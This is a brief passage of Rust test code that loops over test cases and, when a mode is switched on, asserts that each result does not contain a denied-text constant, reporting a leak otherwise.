        for (case, result) in cases.iter().zip(&results) {
            let expect = if mode == "off" { case.off } else { case.on };
            check(case, expect, result, mode);
            if mode != "off" {
                assert!(
                    !result.0.contains(DENIED_TEXT),
                    "{} leaked: {}",
                    case.name,
                    result.0
                );
            }
        }
    }
}
